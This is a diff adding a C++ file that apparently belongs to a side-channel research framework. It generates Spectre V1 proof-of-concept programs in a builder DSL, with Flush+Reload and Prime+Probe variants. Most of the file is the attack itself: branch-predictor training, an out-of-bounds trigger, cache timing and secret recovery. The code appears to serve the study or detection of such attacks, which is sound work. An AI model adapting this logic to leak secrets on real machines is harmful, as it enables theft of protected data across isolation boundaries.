@@ -1,0 +1,302 @@
+// Spectre V1 PoCs. The victim gadget bounds-checks an index into array1;
+// the attacker trains the branch predictor with in-bounds calls, then
+// passes an index that reaches the secret. The bounds check architecturally
+// rejects it, but the mispredicted branch transiently executes the two
+// dependent loads, leaving a secret-indexed line in the cache, which the
+// attacker recovers with Flush+Reload (S-FR) or Prime+Probe (S-PP).
+//
+// The training index is 0, so probe slot 0 is polluted every round; the
+// recovery scan therefore starts at slot 1 (the secret must be in 1..15,
+// as with real Spectre PoCs that rotate training indices).
+#include "attacks/registry.h"
+
+#include "isa/builder.h"
+
+namespace scag::attacks {
+
+using namespace scag::isa;  // NOLINT: builder DSL
+
+namespace {
+
+constexpr int kWays = 16;
+constexpr std::int64_t kArray1Entries = 8;
+
+/// Index that makes &array1[x*8] alias the secret word (wraps mod 2^64).
+std::int64_t malicious_index(const Layout& lay) {
+  return static_cast<std::int64_t>(
+      (lay.secret_addr - lay.array1) / 8);
+}
+
+/// The bounds-checked gadget. `probe_base` selects the array the transient
+/// second load touches (shared_array for S-FR, victim_array for S-PP).
+/// `masked` adds the "good"-gadget index masking.
+void emit_gadget(ProgramBuilder& b, const Layout& lay,
+                 std::uint64_t probe_base, bool masked) {
+  b.label("gadget");
+  b.mark_relevant(true);
+  b.cmp(reg(Reg::RDI), mem_abs(static_cast<std::int64_t>(lay.array1_size_addr)));
+  b.jae("gadget_end");
+  b.mov(reg(Reg::RAX),
+        mem_idx(Reg::R15, Reg::RDI, 8, static_cast<std::int64_t>(lay.array1)));
+  if (masked) b.and_(reg(Reg::RAX), imm(Layout::kNumSlots - 1));
+  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
+  b.mov(reg(Reg::RBX),
+        mem(Reg::RAX, static_cast<std::int64_t>(probe_base)));
+  b.label("gadget_end");
+  b.mark_relevant(false);
+  b.ret();
+}
+
+void emit_argmax_from_one(ProgramBuilder& b, const Layout& lay) {
+  b.mov(reg(Reg::RDI), imm(1));  // slot 0 is the training slot: skip it
+  b.mov(reg(Reg::RBX), imm(-1));
+  b.mov(reg(Reg::RDX), imm(0));
+  b.label("argmax_loop");
+  b.mov(reg(Reg::RAX),
+        mem_idx(Reg::R15, Reg::RDI, 8,
+                static_cast<std::int64_t>(lay.histogram)));
+  b.cmp(reg(Reg::RAX), reg(Reg::RBX));
+  b.jle("argmax_next");
+  b.mov(reg(Reg::RBX), reg(Reg::RAX));
+  b.mov(reg(Reg::RDX), reg(Reg::RDI));
+  b.label("argmax_next");
+  b.inc(reg(Reg::RDI));
+  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
+  b.jl("argmax_loop");
+  b.mov(mem_abs(static_cast<std::int64_t>(lay.recovered_addr)),
+        reg(Reg::RDX));
+}
+
+void seed_spectre_data(ProgramBuilder& b, const PocConfig& config) {
+  const Layout& lay = config.layout;
+  b.data_word(lay.secret_addr, config.secret);
+  b.data_word(lay.array1_size_addr, kArray1Entries);
+  for (std::int64_t i = 0; i < kArray1Entries; ++i)
+    b.data_word(lay.array1 + static_cast<std::uint64_t>(i) * 8, 0);
+}
+
+/// Flush phase over the shared probe array (S-FR recovery).
+void emit_flush_phase(ProgramBuilder& b, const Layout& lay) {
+  b.mov(reg(Reg::RDI), imm(0));
+  b.lea(reg(Reg::RSI), mem_abs(static_cast<std::int64_t>(lay.shared_array)));
+  b.label("flush_loop");
+  b.mark_relevant(true);
+  b.clflush(mem(Reg::RSI));
+  b.add(reg(Reg::RSI), imm(Layout::kSlotStride));
+  b.inc(reg(Reg::RDI));
+  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
+  b.jl("flush_loop");
+  b.mark_relevant(false);
+  b.mfence();
+}
+
+/// Reload phase over slots 1..15 with histogram voting (S-FR recovery).
+void emit_reload_phase(ProgramBuilder& b, const Layout& lay,
+                       const PocConfig& config) {
+  b.mov(reg(Reg::RDI), imm(1));
+  b.label("reload_loop");
+  b.mark_relevant(true);
+  b.mov(reg(Reg::RAX), reg(Reg::RDI));
+  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
+  b.lea(reg(Reg::RSI),
+        mem(Reg::RAX, static_cast<std::int64_t>(lay.shared_array)));
+  b.rdtscp(Reg::R8);
+  b.mov(reg(Reg::RBX), mem(Reg::RSI));
+  b.rdtscp(Reg::R9);
+  b.sub(reg(Reg::R9), reg(Reg::R8));
+  b.cmp(reg(Reg::R9), imm(config.reload_threshold));
+  b.jge("reload_next");
+  b.mov(reg(Reg::RAX),
+        mem_idx(Reg::R15, Reg::RDI, 8,
+                static_cast<std::int64_t>(lay.histogram)));
+  b.inc(reg(Reg::RAX));
+  b.mov(mem_idx(Reg::R15, Reg::RDI, 8,
+                static_cast<std::int64_t>(lay.histogram)),
+        reg(Reg::RAX));
+  b.label("reload_next");
+  b.inc(reg(Reg::RDI));
+  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
+  b.jl("reload_loop");
+  b.mark_relevant(false);
+}
+
+isa::Program spectre_fr_common(const char* name, const PocConfig& config,
+                               bool masked, bool interleaved_training) {
+  const Layout& lay = config.layout;
+  ProgramBuilder b(name);
+  seed_spectre_data(b, config);
+
+  b.label("main");
+  b.xor_(reg(Reg::R15), reg(Reg::R15));
+  b.mov(reg(Reg::RCX), imm(config.rounds));
+
+  b.label("round_loop");
+  emit_flush_phase(b, lay);
+
+  if (interleaved_training) {
+    // Mix flushes of the size variable into the training sequence.
+    b.mov(reg(Reg::RDX), imm(config.trainings));
+    b.label("train_loop");
+    b.clflush(mem_abs(static_cast<std::int64_t>(lay.array1_size_addr)));
+    b.mov(reg(Reg::RDI), imm(0));
+    b.call("gadget");
+    b.dec(reg(Reg::RDX));
+    b.jne("train_loop");
+  } else {
+    b.mov(reg(Reg::RDX), imm(config.trainings));
+    b.label("train_loop");
+    b.mov(reg(Reg::RDI), imm(0));
+    b.call("gadget");
+    b.dec(reg(Reg::RDX));
+    b.jne("train_loop");
+    b.clflush(mem_abs(static_cast<std::int64_t>(lay.array1_size_addr)));
+    b.mfence();
+  }
+
+  // Trigger: architecturally out-of-bounds, transiently reaches the secret.
+  b.mov(reg(Reg::RDI), imm(malicious_index(lay)));
+  b.call("gadget");
+  b.lfence();
+
+  emit_reload_phase(b, lay, config);
+
+  b.dec(reg(Reg::RCX));
+  b.jne("round_loop");
+
+  emit_argmax_from_one(b, lay);
+  b.hlt();
+  emit_gadget(b, lay, lay.shared_array, masked);
+  return b.build();
+}
+
+}  // namespace
+
+isa::Program spectre_fr_ideal(const PocConfig& config) {
+  return spectre_fr_common("Spectre-FR-Ideal", config, /*masked=*/false,
+                           /*interleaved_training=*/false);
+}
+
+isa::Program spectre_fr_good(const PocConfig& config) {
+  return spectre_fr_common("Spectre-FR-Good", config, /*masked=*/true,
+                           /*interleaved_training=*/false);
+}
+
+isa::Program spectre_fr_interleaved(const PocConfig& config) {
+  return spectre_fr_common("Spectre-FR-Interleaved", config,
+                           /*masked=*/false, /*interleaved_training=*/true);
+}
+
+isa::Program spectre_pp_trippel(const PocConfig& config) {
+  const Layout& lay = config.layout;
+  ProgramBuilder b("Spectre-PP-Trippel");
+  seed_spectre_data(b, config);
+
+  b.label("main");
+  b.xor_(reg(Reg::R15), reg(Reg::R15));
+  b.mov(reg(Reg::RCX), imm(config.rounds));
+
+  b.label("round_loop");
+  // ---- Prime all monitored sets.
+  b.mov(reg(Reg::RDI), imm(0));
+  b.label("prime_slot_loop");
+  b.mark_relevant(true);
+  b.mov(reg(Reg::RAX), reg(Reg::RDI));
+  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
+  b.lea(reg(Reg::RSI),
+        mem(Reg::RAX, static_cast<std::int64_t>(lay.attacker_array)));
+  b.mov(reg(Reg::RDX), imm(0));
+  // Masked way index: wrong-path (transient) extra iterations wrap onto
+  // way 0 instead of evicting the freshly primed set.
+  b.label("prime_way_loop");
+  b.mov(reg(Reg::R11), reg(Reg::RDX));
+  b.and_(reg(Reg::R11), imm(kWays - 1));
+  b.shl(reg(Reg::R11), imm(16));  // * kSetAlias
+  b.mov(reg(Reg::RBX), mem_idx(Reg::RSI, Reg::R11, 1));
+  b.inc(reg(Reg::RDX));
+  b.cmp(reg(Reg::RDX), imm(kWays));
+  b.jl("prime_way_loop");
+  b.mark_relevant(false);
+  b.inc(reg(Reg::RDI));
+  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
+  b.jl("prime_slot_loop");
+  b.mfence();
+
+  // ---- Calibrate: time one walk of the freshly primed slot-0 set;
+  // threshold = baseline + margin is junk-overhead invariant.
+  b.lea(reg(Reg::RSI),
+        mem_abs(static_cast<std::int64_t>(lay.attacker_array)));
+  b.rdtscp(Reg::R8);
+  b.mov(reg(Reg::RDX), imm(0));
+  b.label("calib_way_loop");
+  b.mov(reg(Reg::R11), reg(Reg::RDX));
+  b.and_(reg(Reg::R11), imm(kWays - 1));
+  b.shl(reg(Reg::R11), imm(16));
+  b.mov(reg(Reg::RBX), mem_idx(Reg::RSI, Reg::R11, 1));
+  b.inc(reg(Reg::RDX));
+  b.cmp(reg(Reg::RDX), imm(kWays));
+  b.jl("calib_way_loop");
+  b.rdtscp(Reg::R9);
+  b.sub(reg(Reg::R9), reg(Reg::R8));
+  b.mov(reg(Reg::RBP), reg(Reg::R9));
+  b.add(reg(Reg::RBP), imm(100));
+
+  // ---- Train, then trigger the transient secret-dependent access. The
+  // bounds variable is flushed before the trigger, as real Spectre PoCs do
+  // to widen the speculation window.
+  b.mov(reg(Reg::RDX), imm(config.trainings));
+  b.label("train_loop");
+  b.mov(reg(Reg::RDI), imm(0));
+  b.call("gadget");
+  b.dec(reg(Reg::RDX));
+  b.jne("train_loop");
+  b.clflush(mem_abs(static_cast<std::int64_t>(lay.array1_size_addr)));
+  b.mfence();
+  b.mov(reg(Reg::RDI), imm(malicious_index(lay)));
+  b.call("gadget");
+  b.lfence();
+
+  // ---- Probe sets 1..15 against the calibrated baseline.
+  b.mov(reg(Reg::RDI), imm(1));
+  b.label("probe_slot_loop");
+  b.mark_relevant(true);
+  b.mov(reg(Reg::RAX), reg(Reg::RDI));
+  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
+  b.lea(reg(Reg::RSI),
+        mem(Reg::RAX, static_cast<std::int64_t>(lay.attacker_array)));
+  b.rdtscp(Reg::R8);
+  b.mov(reg(Reg::RDX), imm(0));
+  b.label("probe_way_loop");
+  b.mov(reg(Reg::R11), reg(Reg::RDX));
+  b.and_(reg(Reg::R11), imm(kWays - 1));
+  b.shl(reg(Reg::R11), imm(16));
+  b.mov(reg(Reg::RBX), mem_idx(Reg::RSI, Reg::R11, 1));
+  b.inc(reg(Reg::RDX));
+  b.cmp(reg(Reg::RDX), imm(kWays));
+  b.jl("probe_way_loop");
+  b.rdtscp(Reg::R9);
+  b.sub(reg(Reg::R9), reg(Reg::R8));
+  b.cmp(reg(Reg::R9), reg(Reg::RBP));
+  b.jle("probe_next");
+  b.mov(reg(Reg::RAX),
+        mem_idx(Reg::R15, Reg::RDI, 8,
+                static_cast<std::int64_t>(lay.histogram)));
+  b.inc(reg(Reg::RAX));
+  b.mov(mem_idx(Reg::R15, Reg::RDI, 8,
+                static_cast<std::int64_t>(lay.histogram)),
+        reg(Reg::RAX));
+  b.label("probe_next");
+  b.mark_relevant(false);
+  b.inc(reg(Reg::RDI));
+  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
+  b.jl("probe_slot_loop");
+
+  b.dec(reg(Reg::RCX));
+  b.jne("round_loop");
+
+  emit_argmax_from_one(b, lay);
+  b.hlt();
+  emit_gadget(b, lay, lay.victim_array, /*masked=*/false);
+  return b.build();
+}
+
+}  // namespace scag::attacks
